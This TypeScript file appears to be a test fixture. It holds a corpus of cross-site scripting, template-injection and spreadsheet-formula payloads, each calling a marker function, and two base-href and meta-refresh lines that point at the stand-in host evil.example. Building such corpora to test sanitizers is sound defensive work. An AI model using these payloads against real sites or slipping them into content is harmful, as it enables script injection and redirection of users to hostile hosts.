/**
 * What runs where text is taken for markup, an attribute, an address or a template: each would call
 * `pwned`.
 */
export const corpus = [
  '<script>pwned()</script>',
  '"><img src=x onerror=pwned()>',
  "'><svg/onload=pwned()>",
  '<details open ontoggle=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<a href="javascript:pwned()">x</a>',
  '[x](javascript:pwned())',
  '![x](javascript:pwned())',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '</title><script>pwned()</script>',
  '<math><mtext><img src=x onerror=pwned()>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  "{{constructor.constructor('pwned()')()}}",
  '$'.concat('{pwned()}'),
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '</script><script>pwned()</script>',
  '=HYPERLINK("javascript:pwned()")',
]
/** All of it in texts of at most so many characters. */
export function textsOf(most: number): string[] {
  const texts: string[] = []
  for (const one of corpus) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + one.length < most)
      texts[texts.length - 1] = `${last}\n${one}`
    else texts.push(one)
  }
  return texts
}
